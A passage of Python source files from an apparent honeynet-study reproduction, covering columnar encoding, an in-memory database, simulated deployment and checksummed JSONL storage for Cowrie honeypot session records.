    """Match detected windows against the documented event list."""
    matched: list[ExternalEvent] = []
    unmatched_events: list[ExternalEvent] = []
    used: set[int] = set()
    for event in events:
        padded = ExternalEvent(
            event.start - timedelta(days=slack_days),
            event.end + timedelta(days=slack_days),
            event.description,
        )
        hit = False
        for index, window in enumerate(windows):
            if window.overlaps(padded):
                used.add(index)
                hit = True
        (matched if hit else unmatched_events).append(event)
    unmatched_windows = [
        w for i, w in enumerate(windows) if i not in used
    ]
    return EventCorrelation(
        windows=windows,
        matched_events=matched,
        unmatched_events=unmatched_events,
        unmatched_windows=unmatched_windows,
    )


def base64_uploader_ips(decoded: list[DecodedScript]) -> Counter:
    """How often each client IP uploaded a base64 script."""
    return Counter(script.client_ip for script in decoded)
