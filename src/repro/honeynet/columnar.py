"""Columnar session batches: the compact wire/bulk format for records.

:class:`~repro.honeypot.session.SessionRecord` is schema-fixed, so a
list of records can be transposed into columns: one numpy array per
fixed-width field (timestamps, ports, flags, enum codes) and one
offset-indexed UTF-8 buffer per string field.  Nested sequences
(logins, commands, URIs, file events) flatten into child columns with a
per-record ``*_index`` offset array, exactly like Arrow's list layout.

Why it exists:

* **Compact shard IPC** — the parallel engine ships a
  :class:`ColumnBatch` back from each shard worker instead of a pickled
  object graph.  Pickling a batch serializes ~two dozen contiguous
  buffers, not hundreds of thousands of nested dataclass instances, so
  the merge path stops paying per-session pickle overhead
  (:mod:`repro.parallel.engine`).
* **Bulk ingest** — :meth:`repro.honeynet.collector.Collector.absorb_batch`
  decodes a batch once and extends its stores with plain list/set bulk
  operations.
* **Cheap feature extraction** — the numeric columns (``start``,
  ``end``, counts via the index arrays) are already the vectors a
  clustering or activity-model stage needs, without touching a single
  record object.

The codec is **lossless by contract**: ``decode(encode(records)) ==
records`` field-for-field, including unicode command strings, ``None``
markers (``ssh_version``, ``bot_label``, file-event hashes) and exact
float timestamps (IEEE-754 doubles survive the numpy round trip
bit-for-bit).  ``tests/test_columnar.py`` pins that property with
hypothesis; the parallel differential suite then proves digests are
byte-identical end to end.

Layering: imports only :mod:`repro.honeypot.session` and numpy.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Sequence

import numpy as np

from repro.honeypot.session import (
    CommandRecord,
    FileEvent,
    FileOp,
    LoginAttempt,
    Protocol,
    SessionRecord,
)

#: Stable enum code tables (index = wire code).  Append-only: codes are
#: shipped between processes of the *same* run, but keeping them stable
#: costs nothing and keeps captured buffers interpretable.
PROTOCOL_CODES: tuple[Protocol, ...] = (Protocol.SSH, Protocol.TELNET)
FILE_OP_CODES: tuple[FileOp, ...] = (
    FileOp.CREATE,
    FileOp.MODIFY,
    FileOp.DELETE,
    FileOp.EXECUTE,
    FileOp.EXECUTE_MISSING,
)
_PROTOCOL_TO_CODE = {member: code for code, member in enumerate(PROTOCOL_CODES)}
_FILE_OP_TO_CODE = {member: code for code, member in enumerate(FILE_OP_CODES)}


def _offsets_of(lengths: list[int], total: int) -> np.ndarray:
    """Prefix-sum offsets, in the narrowest dtype that can address them."""
    dtype = np.uint32 if total < 2**32 else np.int64
    offsets = np.zeros(len(lengths) + 1, dtype=dtype)
    np.cumsum(lengths, out=offsets[1:])
    return offsets


@dataclass(frozen=True)
class StringColumn:
    """``n`` UTF-8 strings in one buffer with ``n + 1`` byte offsets.

    ``None`` entries (nullable columns) are encoded as an empty slice
    plus a ``False`` bit in ``present``.  When the buffer contains any
    multi-byte code point, ``char_offsets`` additionally carries
    character offsets so :meth:`values` can decode the buffer *once*
    and slice the resulting ``str`` — an order of magnitude cheaper
    than per-slice ``bytes.decode`` calls on big batches.
    """

    buffer: bytes
    offsets: np.ndarray  # uint32/int64, length n + 1, byte offsets
    present: np.ndarray | None = None  # bool mask, length n (None = all)
    char_offsets: np.ndarray | None = None  # set iff buffer is non-ASCII

    @classmethod
    def encode(cls, values: Sequence[str | None]) -> "StringColumn":
        mask: np.ndarray | None = None
        try:
            chunks = [value.encode("utf-8") for value in values]
        except AttributeError:  # at least one None: nullable slow path
            mask = np.array([value is not None for value in values])
            chunks = [
                value.encode("utf-8") if value is not None else b""
                for value in values
            ]
        buffer = b"".join(chunks)
        char_offsets = None
        if not buffer.isascii():
            char_offsets = _offsets_of(
                [len(value) if value is not None else 0 for value in values],
                sum(len(value) if value is not None else 0 for value in values),
            )
        return cls(
            buffer=buffer,
            offsets=_offsets_of([len(chunk) for chunk in chunks], len(buffer)),
            present=mask,
            char_offsets=char_offsets,
        )

    def values(self) -> list[str | None]:
        text = self.buffer.decode("utf-8")
        bounds = (
            self.char_offsets if self.char_offsets is not None else self.offsets
        ).tolist()
        out: list[str | None] = [
            text[bounds[i] : bounds[i + 1]] for i in range(len(bounds) - 1)
        ]
        if self.present is not None:
            for i in np.flatnonzero(~self.present).tolist():
                out[i] = None
        return out

    def __len__(self) -> int:
        return len(self.offsets) - 1

    @property
    def nbytes(self) -> int:
        total = len(self.buffer) + self.offsets.nbytes
        if self.present is not None:
            total += self.present.nbytes
        if self.char_offsets is not None:
            total += self.char_offsets.nbytes
        return total


def _index_of(nested: list[list], flat_count: int) -> np.ndarray:
    """The ``n + 1`` offsets of each record's slice in a flattened child."""
    return _offsets_of([len(item) for item in nested], flat_count)


@dataclass(frozen=True)
class ColumnBatch:
    """A batch of session records transposed into columns.

    Construct with :meth:`from_records`, recover the records with
    :meth:`to_records`.  Pickling a batch (shard IPC) serializes the
    column buffers directly — no per-record object traversal.
    """

    session_id: StringColumn
    honeypot_id: StringColumn
    honeypot_ip: StringColumn
    honeypot_port: np.ndarray  # int64
    protocol: np.ndarray  # uint8 codes into PROTOCOL_CODES
    client_ip: StringColumn
    client_port: np.ndarray  # int64
    start: np.ndarray  # float64
    end: np.ndarray  # float64
    timed_out: np.ndarray  # bool
    ssh_version: StringColumn  # nullable
    bot_label: StringColumn  # nullable
    # logins — flattened LoginAttempt columns + per-record offsets
    login_index: np.ndarray = field(default_factory=lambda: np.zeros(1, np.int64))
    login_username: StringColumn = field(
        default_factory=lambda: StringColumn.encode(())
    )
    login_password: StringColumn = field(
        default_factory=lambda: StringColumn.encode(())
    )
    login_success: np.ndarray = field(default_factory=lambda: np.zeros(0, bool))
    # commands — flattened CommandRecord columns + offsets
    command_index: np.ndarray = field(default_factory=lambda: np.zeros(1, np.int64))
    command_raw: StringColumn = field(
        default_factory=lambda: StringColumn.encode(())
    )
    command_known: np.ndarray = field(default_factory=lambda: np.zeros(0, bool))
    command_output: StringColumn = field(
        default_factory=lambda: StringColumn.encode(())
    )
    # uris — flattened strings + offsets
    uri_index: np.ndarray = field(default_factory=lambda: np.zeros(1, np.int64))
    uri_values: StringColumn = field(
        default_factory=lambda: StringColumn.encode(())
    )
    # file events — flattened FileEvent columns + offsets
    event_index: np.ndarray = field(default_factory=lambda: np.zeros(1, np.int64))
    event_path: StringColumn = field(
        default_factory=lambda: StringColumn.encode(())
    )
    event_op: np.ndarray = field(default_factory=lambda: np.zeros(0, np.uint8))
    event_sha256: StringColumn = field(  # nullable
        default_factory=lambda: StringColumn.encode(())
    )
    event_source: StringColumn = field(
        default_factory=lambda: StringColumn.encode(())
    )

    def __len__(self) -> int:
        return len(self.session_id)

    @property
    def nbytes(self) -> int:
        """Approximate wire size of the batch (buffers + offset arrays)."""
        total = 0
        for value in self.__dict__.values():
            if isinstance(value, (StringColumn, np.ndarray)):
                total += value.nbytes
        return total

    # ------------------------------------------------------------------
    @classmethod
    def from_records(cls, records: Sequence[SessionRecord]) -> "ColumnBatch":
        """Encode ``records`` (order-preserving, lossless)."""
        logins = [r.logins for r in records]
        flat_logins = [a for group in logins for a in group]
        commands = [r.commands for r in records]
        flat_commands = [c for group in commands for c in group]
        uris = [r.uris for r in records]
        flat_uris = [u for group in uris for u in group]
        events = [r.file_events for r in records]
        flat_events = [e for group in events for e in group]
        return cls(
            session_id=StringColumn.encode([r.session_id for r in records]),
            honeypot_id=StringColumn.encode([r.honeypot_id for r in records]),
            honeypot_ip=StringColumn.encode([r.honeypot_ip for r in records]),
            honeypot_port=np.array(
                [r.honeypot_port for r in records], dtype=np.int64
            ),
            protocol=np.array(
                [_PROTOCOL_TO_CODE[r.protocol] for r in records], dtype=np.uint8
            ),
            client_ip=StringColumn.encode([r.client_ip for r in records]),
            client_port=np.array(
                [r.client_port for r in records], dtype=np.int64
            ),
            start=np.array([r.start for r in records], dtype=np.float64),
            end=np.array([r.end for r in records], dtype=np.float64),
            timed_out=np.array([r.timed_out for r in records], dtype=bool),
            ssh_version=StringColumn.encode(
                [r.ssh_version for r in records]
            ),
            bot_label=StringColumn.encode([r.bot_label for r in records]),
            login_index=_index_of(logins, len(flat_logins)),
            login_username=StringColumn.encode(
                [a.username for a in flat_logins]
            ),
            login_password=StringColumn.encode(
                [a.password for a in flat_logins]
            ),
            login_success=np.array(
                [a.success for a in flat_logins], dtype=bool
            ),
            command_index=_index_of(commands, len(flat_commands)),
            command_raw=StringColumn.encode([c.raw for c in flat_commands]),
            command_known=np.array(
                [c.known for c in flat_commands], dtype=bool
            ),
            command_output=StringColumn.encode(
                [c.output for c in flat_commands]
            ),
            uri_index=_index_of(uris, len(flat_uris)),
            uri_values=StringColumn.encode(flat_uris),
            event_index=_index_of(events, len(flat_events)),
            event_path=StringColumn.encode([e.path for e in flat_events]),
            event_op=np.array(
                [_FILE_OP_TO_CODE[e.op] for e in flat_events], dtype=np.uint8
            ),
            event_sha256=StringColumn.encode(
                [e.sha256 for e in flat_events]
            ),
            event_source=StringColumn.encode(
                [e.source for e in flat_events]
            ),
        )

    def to_records(self) -> list[SessionRecord]:
        """Decode back to record objects (the inverse of ``from_records``).

        Every scalar crosses back through ``.tolist()`` so downstream
        consumers (JSON export, digests) see pure Python ``int`` /
        ``float`` / ``bool`` values, never numpy scalars.
        """
        flat_logins = [
            LoginAttempt(u, p, s)
            for u, p, s in zip(
                self.login_username.values(),
                self.login_password.values(),
                self.login_success.tolist(),
            )
        ]
        flat_commands = [
            CommandRecord(raw, known, output)
            for raw, known, output in zip(
                self.command_raw.values(),
                self.command_known.tolist(),
                self.command_output.values(),
            )
        ]
        flat_uris = self.uri_values.values()
        flat_events = [
            FileEvent(path, FILE_OP_CODES[op], sha, src)
            for path, op, sha, src in zip(
                self.event_path.values(),
                self.event_op.tolist(),
                self.event_sha256.values(),
                self.event_source.values(),
            )
        ]
        login_at = self.login_index.tolist()
        command_at = self.command_index.tolist()
        uri_at = self.uri_index.tolist()
        event_at = self.event_index.tolist()
        protocols = [PROTOCOL_CODES[code] for code in self.protocol.tolist()]
        return [
            SessionRecord(
                sid,
                hid,
                hip,
                hport,
                proto,
                cip,
                cport,
                start,
                end,
                ssh,
                flat_logins[login_at[i] : login_at[i + 1]],
                flat_commands[command_at[i] : command_at[i + 1]],
                flat_uris[uri_at[i] : uri_at[i + 1]],
                flat_events[event_at[i] : event_at[i + 1]],
                timed_out,
                label,
            )
            for i, (
                sid,
                hid,
                hip,
                hport,
                proto,
                cip,
                cport,
                start,
                end,
                ssh,
                timed_out,
                label,
            ) in enumerate(
                zip(
                    self.session_id.values(),
                    self.honeypot_id.values(),
                    self.honeypot_ip.values(),
                    self.honeypot_port.tolist(),
                    protocols,
                    self.client_ip.values(),
                    self.client_port.tolist(),
                    self.start.tolist(),
                    self.end.tolist(),
                    self.ssh_version.values(),
                    self.timed_out.tolist(),
                    self.bot_label.values(),
                )
            )
        ]

    def session_ids(self) -> list[str]:
        """All session ids without decoding full records (bulk dedup)."""
        return self.session_id.values()
