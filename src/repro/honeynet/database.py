"""In-memory session database with the query surface the analyses need.

The honeynet's real deployment stores sessions in a central database
queried in situ; this class is that interface.  Indexes are built
lazily and cached — the database is append-closed once constructed.

The lazy builds are race-safe: concurrent first-queries (the streaming
query API serves figures from worker threads) serialize on one
re-entrant lock, so each derived index is built exactly once and every
caller sees the same cached object.  Reads after the first build are
lock-free — the cache fields flip once from ``None`` to their final
value and are never mutated again.
"""

from __future__ import annotations

import hashlib
import json
import threading
from collections import defaultdict
from datetime import date

from repro.honeypot.session import Protocol, SessionRecord
from repro.util.timeutils import epoch_date, month_key


class SessionDatabase:
    """Query layer over a fixed collection of session records."""

    def __init__(self, sessions: list[SessionRecord]) -> None:
        self._sessions = sorted(sessions, key=lambda s: (s.start, s.session_id))
        self._ssh: list[SessionRecord] | None = None
        self._commands: list[SessionRecord] | None = None
        self._by_month: dict[str, list[SessionRecord]] | None = None
        self._by_day: dict[date, list[SessionRecord]] | None = None
        # Re-entrant: command_sessions' build calls ssh_sessions under
        # the same lock.
        self._build_lock = threading.RLock()

    def __len__(self) -> int:
        return len(self._sessions)

    def __iter__(self):
        return iter(self._sessions)

    def __getstate__(self) -> dict:
        state = self.__dict__.copy()
        del state["_build_lock"]  # locks don't pickle; remade on restore
        return state

    def __setstate__(self, state: dict) -> None:
        self.__dict__.update(state)
        self._build_lock = threading.RLock()

    @property
    def sessions(self) -> list[SessionRecord]:
        """All sessions, ordered by start time."""
        return self._sessions

    def ssh_sessions(self) -> list[SessionRecord]:
        """Only SSH sessions (the paper's analysis scope)."""
        if self._ssh is None:
            with self._build_lock:
                if self._ssh is None:
                    self._ssh = [
                        s for s in self._sessions if s.protocol == Protocol.SSH
                    ]
        return self._ssh

    def command_sessions(self) -> list[SessionRecord]:
        """SSH sessions with a successful login and ≥1 command."""
        if self._commands is None:
            with self._build_lock:
                if self._commands is None:
                    self._commands = [
                        s
                        for s in self.ssh_sessions()
                        if s.login_succeeded and s.executed_commands
                    ]
        return self._commands

    def by_month(self) -> dict[str, list[SessionRecord]]:
        """SSH sessions grouped by ``YYYY-MM`` month key."""
        if self._by_month is None:
            with self._build_lock:
                if self._by_month is None:
                    grouped: dict[str, list[SessionRecord]] = defaultdict(list)
                    for session in self.ssh_sessions():
                        grouped[month_key(epoch_date(session.start))].append(
                            session
                        )
                    self._by_month = dict(grouped)
        return self._by_month

    def by_day(self) -> dict[date, list[SessionRecord]]:
        """SSH sessions grouped by UTC calendar day."""
        if self._by_day is None:
            with self._build_lock:
                if self._by_day is None:
                    grouped: dict[date, list[SessionRecord]] = defaultdict(list)
                    for session in self.ssh_sessions():
                        grouped[epoch_date(session.start)].append(session)
                    self._by_day = dict(grouped)
        return self._by_day

    def unique_client_ips(self) -> set[str]:
        """Distinct client IPs across SSH sessions."""
        return {s.client_ip for s in self.ssh_sessions()}

    def months(self) -> list[str]:
        """Sorted month keys with at least one SSH session."""
        return sorted(self.by_month())

    def filter(self, predicate) -> list[SessionRecord]:
        """Generic filtered view over SSH sessions."""
        return [s for s in self.ssh_sessions() if predicate(s)]

    def with_downloads(self) -> list[SessionRecord]:
        """Sessions in which a file was actually loaded (hash recorded)."""
        return [
            s for s in self.command_sessions() if s.download_hashes()
        ]

    def digest(self) -> str:
        """SHA-256 over the canonical JSON of every stored session.

        The digest covers all sessions (both protocols) in database
        order, so two runs produced the same dataset iff their digests
        match — the equivalence check behind the fault-model and
        checkpoint/resume guarantees.
        """
        from repro.honeynet.io import session_to_dict

        hasher = hashlib.sha256()
        for session in self._sessions:
            hasher.update(
                json.dumps(
                    session_to_dict(session),
                    sort_keys=True,
                    separators=(",", ":"),
                ).encode("utf-8")
            )
            hasher.update(b"\n")
        return hasher.hexdigest()

    def unique_hashes(self) -> set[str]:
        """All distinct file hashes ever recorded (downloads/writes)."""
        hashes: set[str] = set()
        for session in self.command_sessions():
            hashes.update(session.download_hashes())
        return hashes
