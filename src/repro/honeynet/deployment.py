"""Fleet deployment: 221 identically configured honeypots.

Paper section 3.1: the honeynet runs 221 Cowrie honeypots in 55
countries and 65 ASes, focused on residential networks.  Placement is
deterministic under the simulation seed.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.config import SimulationConfig
from repro.honeypot.cowrie import CowrieHoneypot
from repro.honeypot.shell.context import HostProfile
from repro.net.ipv4 import int_to_ip
from repro.net.population import BasePopulation
from repro.util.rng import RngTree

_HOSTNAMES = (
    "svr04", "ns3", "db01", "app-srv", "media-box", "cam-gw", "router",
    "nas-home", "iot-hub", "vps-web", "mail02", "edge-01",
)


@dataclass
class Honeynet:
    """The deployed fleet plus its placement metadata."""

    honeypots: list[CowrieHoneypot]
    countries: list[str]
    _index: dict[str, CowrieHoneypot] = field(
        init=False, repr=False, default_factory=dict
    )

    def __post_init__(self) -> None:
        self._index = {hp.honeypot_id: hp for hp in self.honeypots}

    def __len__(self) -> int:
        return len(self.honeypots)

    def by_id(self, honeypot_id: str) -> CowrieHoneypot:
        """O(1) lookup of a sensor by its id."""
        return self._index[honeypot_id]


def deploy_honeynet(
    config: SimulationConfig, population: BasePopulation, rng_tree: RngTree
) -> Honeynet:
    """Place ``config.n_honeypots`` sensors across countries and ASes."""
    rng = rng_tree.child("deployment").rand()
    from repro.net.geo import pick_countries

    countries = pick_countries(rng, config.n_countries)
    honeypots: list[CowrieHoneypot] = []
    host_ases = population.honeypot_ases[: config.n_honeypot_ases]
    for index in range(config.n_honeypots):
        record = host_ases[index % len(host_ases)]
        address = record.random_ip(rng)
        profile = HostProfile(hostname=rng.choice(_HOSTNAMES) + f"-{index:03d}")
        honeypots.append(
            CowrieHoneypot(
                honeypot_id=f"hp-{index:03d}",
                ip=int_to_ip(address),
                country=countries[index % len(countries)],
                asn=record.asn,
                profile=profile,
                timeout_s=config.session_timeout_s,
            )
        )
    return Honeynet(honeypots=honeypots, countries=countries)
