"""Session-log persistence: JSONL export/import of session records.

The analyses only consume :class:`SessionRecord`s, so a dataset written
with :func:`write_jsonl` and read back with :func:`read_jsonl` is fully
analyzable — and real Cowrie logs exported into the same schema can be
fed straight into the pipeline.  The format is one JSON object per
line with an explicit schema version.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Iterable, Iterator

from repro.honeypot.session import (
    CommandRecord,
    FileEvent,
    FileOp,
    LoginAttempt,
    Protocol,
    SessionRecord,
)

#: Format version written into every line.
SCHEMA_VERSION = 1


class SessionLogError(ValueError):
    """Raised for malformed or incompatible session-log lines."""


def session_to_dict(session: SessionRecord) -> dict:
    """The JSON-serializable form of one session record."""
    return {
        "v": SCHEMA_VERSION,
        "session_id": session.session_id,
        "honeypot_id": session.honeypot_id,
        "honeypot_ip": session.honeypot_ip,
        "honeypot_port": session.honeypot_port,
        "protocol": session.protocol.value,
        "client_ip": session.client_ip,
        "client_port": session.client_port,
        "start": session.start,
        "end": session.end,
        "ssh_version": session.ssh_version,
        "logins": [
            [attempt.username, attempt.password, attempt.success]
            for attempt in session.logins
        ],
        "commands": [
            [record.raw, record.known, record.output]
            for record in session.commands
        ],
        "uris": list(session.uris),
        "file_events": [
            [event.path, event.op.value, event.sha256, event.source]
            for event in session.file_events
        ],
        "timed_out": session.timed_out,
        "bot_label": session.bot_label,
    }


def session_from_dict(payload: dict) -> SessionRecord:
    """Rebuild a session record from its JSON form."""
    version = payload.get("v")
    if version != SCHEMA_VERSION:
        raise SessionLogError(f"unsupported session-log version: {version!r}")
    try:
        return SessionRecord(
            session_id=payload["session_id"],
            honeypot_id=payload["honeypot_id"],
            honeypot_ip=payload["honeypot_ip"],
            honeypot_port=payload["honeypot_port"],
            protocol=Protocol(payload["protocol"]),
            client_ip=payload["client_ip"],
            client_port=payload["client_port"],
            start=payload["start"],
            end=payload["end"],
            ssh_version=payload.get("ssh_version"),
            logins=[
                LoginAttempt(username, password, bool(success))
                for username, password, success in payload.get("logins", [])
            ],
            commands=[
                CommandRecord(raw=raw, known=bool(known), output=output)
                for raw, known, output in payload.get("commands", [])
            ],
            uris=list(payload.get("uris", [])),
            file_events=[
                FileEvent(path, FileOp(op), sha256, source)
                for path, op, sha256, source in payload.get("file_events", [])
            ],
            timed_out=bool(payload.get("timed_out", False)),
            bot_label=payload.get("bot_label"),
        )
    except (KeyError, TypeError, ValueError) as error:
        raise SessionLogError(f"malformed session-log record: {error}") from error


def write_jsonl(sessions: Iterable[SessionRecord], path: Path | str) -> int:
    """Write sessions to a JSONL file; returns the record count."""
    count = 0
    with open(path, "w", encoding="utf-8") as handle:
        for session in sessions:
            handle.write(json.dumps(session_to_dict(session)))
            handle.write("\n")
            count += 1
    return count


def iter_jsonl(path: Path | str) -> Iterator[SessionRecord]:
    """Stream session records from a JSONL file."""
    with open(path, "r", encoding="utf-8") as handle:
        for line_number, line in enumerate(handle, start=1):
            line = line.strip()
            if not line:
                continue
            try:
                payload = json.loads(line)
            except json.JSONDecodeError as error:
                raise SessionLogError(
                    f"line {line_number}: invalid JSON"
                ) from error
            yield session_from_dict(payload)


def read_jsonl(path: Path | str) -> list[SessionRecord]:
    """Load all session records from a JSONL file."""
    return list(iter_jsonl(path))
