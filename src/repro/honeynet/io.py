"""Session-log persistence: self-verifying JSONL export/import.

The analyses only consume :class:`SessionRecord`s, so a dataset written
with :func:`write_jsonl` and read back with :func:`read_jsonl` is fully
analyzable — and real Cowrie logs exported into the same schema can be
fed straight into the pipeline.  The format is one JSON object per
line with an explicit schema version.

Exports are self-verifying at three layers:

* each line carries a sequence number (``"seq"``) and a content
  checksum (``"sha"``, :mod:`repro.integrity.checksums`) over the whole
  envelope;
* the file gets a sidecar manifest (line count + rolling digest,
  :mod:`repro.integrity.manifest`) computed over the *clean* lines
  before any injected corruption touches them;
* the write itself is atomic (temp + fsync + rename), so a killed
  export never leaves a half-written dataset.

Reading is strict by default — any damage raises
:class:`SessionLogError` with path/line/reason context.  The lenient
mode (:func:`recover_jsonl`) instead reconstructs everything
recoverable: duplicated lines are dropped by sequence number, reordered
lines are re-sorted, and every unrecoverable line is quarantined with
provenance (:mod:`repro.integrity.quarantine`) so the loss shows up in
conservation accounting instead of vanishing.

The checksum lives in the line *envelope*, not in
:func:`session_to_dict` itself: the dataset digest
(:meth:`repro.honeynet.database.SessionDatabase.digest`) hashes the
record dict and must not change shape.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Iterable, Iterator

from repro import telemetry
from repro.honeypot.session import (
    CommandRecord,
    FileEvent,
    FileOp,
    LoginAttempt,
    Protocol,
    SessionRecord,
)
from repro.integrity.checksums import RECORD_CHECKSUM_KEY, seal, verify_seal
from repro.integrity.manifest import (
    Manifest,
    ManifestError,
    build_manifest,
    file_manifest,
    read_manifest,
    write_manifest,
)
from repro.integrity.quarantine import QUARANTINE_DIR_NAME, QuarantineStore
from repro.util.fsio import atomic_write_text

#: Format version written into every line.
SCHEMA_VERSION = 1

#: Envelope key carrying the line's position in the written sequence.
SEQ_KEY = "seq"

#: Envelope keys that are persistence metadata, not record content.
ENVELOPE_KEYS = (SEQ_KEY, RECORD_CHECKSUM_KEY)


class SessionLogError(ValueError):
    """Raised for malformed or incompatible session-log data.

    Carries structured context — ``path``, ``line`` (1-based) and a
    stable ``reason`` slug — so callers (and the quarantine store) can
    report *where* and *why* without parsing the message.
    """

    def __init__(
        self,
        message: str,
        *,
        path: Path | str | None = None,
        line: int | None = None,
        reason: str | None = None,
    ) -> None:
        context = []
        if path is not None:
            context.append(str(path))
        if line is not None:
            context.append(f"line {line}")
        prefix = ": ".join(context)
        super().__init__(f"{prefix}: {message}" if prefix else message)
        self.path = str(path) if path is not None else None
        self.line = line
        self.reason = reason


def session_to_dict(session: SessionRecord) -> dict:
    """The JSON-serializable form of one session record."""
    return {
        "v": SCHEMA_VERSION,
        "session_id": session.session_id,
        "honeypot_id": session.honeypot_id,
        "honeypot_ip": session.honeypot_ip,
        "honeypot_port": session.honeypot_port,
        "protocol": session.protocol.value,
        "client_ip": session.client_ip,
        "client_port": session.client_port,
        "start": session.start,
        "end": session.end,
        "ssh_version": session.ssh_version,
        "logins": [
            [attempt.username, attempt.password, attempt.success]
            for attempt in session.logins
        ],
        "commands": [
            [record.raw, record.known, record.output]
            for record in session.commands
        ],
        "uris": list(session.uris),
        "file_events": [
            [event.path, event.op.value, event.sha256, event.source]
            for event in session.file_events
        ],
        "timed_out": session.timed_out,
        "bot_label": session.bot_label,
    }


def session_from_dict(payload: dict) -> SessionRecord:
    """Rebuild a session record from its JSON form.

    Envelope metadata (``"seq"``, ``"sha"``) is tolerated and, when a
    checksum is present, verified — a record that parses but fails its
    checksum is corrupt, not merely odd.
    """
    version = payload.get("v")
    if version != SCHEMA_VERSION:
        raise SessionLogError(
            f"unsupported session-log version: {version!r}",
            reason="unsupported-version",
        )
    if RECORD_CHECKSUM_KEY in payload and not verify_seal(payload):
        raise SessionLogError(
            "record content does not match its checksum",
            reason="checksum-mismatch",
        )
    try:
        return SessionRecord(
            session_id=payload["session_id"],
            honeypot_id=payload["honeypot_id"],
            honeypot_ip=payload["honeypot_ip"],
            honeypot_port=payload["honeypot_port"],
            protocol=Protocol(payload["protocol"]),
            client_ip=payload["client_ip"],
            client_port=payload["client_port"],
            start=payload["start"],
            end=payload["end"],
            ssh_version=payload.get("ssh_version"),
            logins=[
                LoginAttempt(username, password, bool(success))
                for username, password, success in payload.get("logins", [])
            ],
            commands=[
                CommandRecord(raw=raw, known=bool(known), output=output)
                for raw, known, output in payload.get("commands", [])
            ],
            uris=list(payload.get("uris", [])),
            file_events=[
                FileEvent(path, FileOp(op), sha256, source)
                for path, op, sha256, source in payload.get("file_events", [])
            ],
            timed_out=bool(payload.get("timed_out", False)),
            bot_label=payload.get("bot_label"),
        )
    except (KeyError, TypeError, ValueError) as error:
        raise SessionLogError(
            f"malformed session-log record: {error}",
            reason="malformed-record",
        ) from error


def write_jsonl(
    sessions: Iterable[SessionRecord],
    path: Path | str,
    *,
    corruptor=None,
    manifest: bool = True,
) -> int:
    """Write sessions to a JSONL file; returns the clean record count.

    The write is atomic; each line is sealed with a sequence number and
    content checksum; a sidecar manifest pins the clean content.  An
    optional :class:`~repro.faults.corruption.LogCorruptor` is applied
    *after* the manifest is computed — it models damage in the storage
    path, not in the writer.
    """
    path = Path(path)
    lines: list[str] = []
    for sequence, session in enumerate(sessions):
        envelope = session_to_dict(session)
        envelope[SEQ_KEY] = sequence
        lines.append(json.dumps(seal(envelope)))
    document = build_manifest(lines)
    written = corruptor.corrupt_lines(lines) if corruptor is not None else lines
    atomic_write_text(path, "".join(line + "\n" for line in written))
    if manifest:
        write_manifest(path, document)
    telemetry.count("integrity.records_written", document.lines)
    return document.lines


def iter_jsonl(path: Path | str) -> Iterator[SessionRecord]:
    """Stream session records from a JSONL file, strictly."""
    path = Path(path)
    with open(path, "r", encoding="utf-8") as handle:
        for line_number, line in enumerate(handle, start=1):
            line = line.strip()
            if not line:
                continue
            try:
                payload = json.loads(line)
            except json.JSONDecodeError as error:
                raise SessionLogError(
                    "invalid JSON",
                    path=path,
                    line=line_number,
                    reason="invalid-json",
                ) from error
            try:
                yield session_from_dict(payload)
            except SessionLogError as error:
                raise SessionLogError(
                    str(error),
                    path=path,
                    line=line_number,
                    reason=error.reason,
                ) from error


def read_jsonl(
    path: Path | str,
    *,
    mode: str = "strict",
    quarantine: Path | str | QuarantineStore | None = None,
) -> list[SessionRecord]:
    """Load all session records from a JSONL file.

    ``mode="strict"`` (the default) raises :class:`SessionLogError` on
    the first damaged line and, when a sidecar manifest exists, on any
    divergence between the manifest and the bytes on disk.

    ``mode="lenient"`` recovers instead: see :func:`recover_jsonl`.
    Damaged lines land in ``quarantine`` (default: a ``quarantine/``
    directory next to the file).
    """
    path = Path(path)
    if mode == "strict":
        records = list(iter_jsonl(path))
        try:
            expected = read_manifest(path)
        except ManifestError as error:
            raise SessionLogError(
                str(error), path=path, reason="manifest-unreadable"
            ) from error
        if expected is not None:
            actual = file_manifest(path)
            if (actual.lines, actual.sha256) != (expected.lines, expected.sha256):
                raise SessionLogError(
                    "file content diverges from its manifest "
                    f"({actual.lines} lines on disk, {expected.lines} promised)",
                    path=path,
                    reason="manifest-mismatch",
                )
        return records
    if mode == "lenient":
        if quarantine is None:
            quarantine = path.parent / QUARANTINE_DIR_NAME
        return recover_jsonl(path, quarantine=quarantine).records
    raise ValueError(f"unknown read mode: {mode!r}")


# ----------------------------------------------------------------------
# lenient recovery
# ----------------------------------------------------------------------

@dataclass
class RecoveryReport:
    """What a lenient read found, recovered and lost for one file."""

    path: str
    physical_lines: int = 0
    blank_lines: int = 0
    #: Lines that parsed and passed their checksum (duplicates included).
    parsed: int = 0
    #: Records returned after dedup + reordering.
    recovered: int = 0
    duplicates: int = 0
    #: Lines observed out of sequence order (repaired by sorting).
    reordered: int = 0
    #: ``(line_number, reason)`` for every quarantined physical line.
    bad_lines: tuple[tuple[int, str], ...] = ()
    #: Sequence numbers that should exist but no surviving line carries.
    missing_seqs: tuple[int, ...] = ()
    manifest_lines: int | None = None
    manifest_match: bool | None = None

    @property
    def quarantined(self) -> int:
        """Physical lines quarantined (unparseable or checksum-failed)."""
        return len(self.bad_lines)

    @property
    def missing(self) -> int:
        return len(self.missing_seqs)

    @property
    def lost(self) -> int:
        """Records that could not be recovered at all."""
        return self.quarantined + self.missing

    @property
    def lossless(self) -> bool:
        """True when every written record was recovered (damage, if
        any, was limited to duplicates and reordering)."""
        return self.lost == 0

    def conservation_balanced(self) -> bool:
        """Line-level conservation over the recovery boundary."""
        lines_ok = self.physical_lines == (
            self.parsed + self.blank_lines + self.quarantined
        )
        records_ok = self.parsed == self.recovered + self.duplicates
        manifest_ok = self.manifest_lines is None or (
            self.manifest_lines == self.recovered + self.missing
        )
        return lines_ok and records_ok and manifest_ok


@dataclass
class RecoveredLog:
    """Everything a lenient read returns."""

    records: list[SessionRecord]
    report: RecoveryReport
    quarantine: QuarantineStore | None = field(default=None, repr=False)


def recover_jsonl(
    path: Path | str,
    *,
    quarantine: Path | str | QuarantineStore | None = None,
) -> RecoveredLog:
    """Recover everything recoverable from a possibly damaged JSONL file.

    Duplicated lines are dropped by sequence number, reordered lines are
    re-sorted, and every unrecoverable line — invalid JSON, failed
